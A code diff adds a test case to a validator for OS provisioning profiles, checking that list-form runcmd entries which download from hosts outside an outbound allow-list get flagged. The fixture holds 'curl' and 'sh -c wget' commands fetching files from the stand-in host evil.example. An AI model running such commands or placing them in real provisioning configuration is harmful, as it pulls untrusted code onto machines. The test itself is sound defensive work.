@@ -83,6 +83,15 @@ const CASES: readonly (readonly [
     [`OSM0654 ${DATA} is too large to be read as a script: what it loads is not known`],
   ],
   [
+    'entries of runcmd that are lists of words',
+    'modules:\n  runcmd:\n  - "[curl, -o, /tmp/x, evil.example/x]"\n  - "[sh, -c, \'wget evil.example/y\']"\n  - "[echo, curl]"\n',
+    ['https://mirror.example.com/'],
+    ['x', 'y'].map(
+      (path, i) =>
+        `OSM0653 OperatingSystemProfile spec.provisioningConfig.modules.runcmd[${i}]: runcmd entry ${i + 1} loads the URL http://evil.example/${path}, which checks.outbound.allow does not contain`,
+    ),
+  ],
+  [
     'messages and comments',
     script(
       'curl https://mirror.example.com/x # from https://a.example.com',
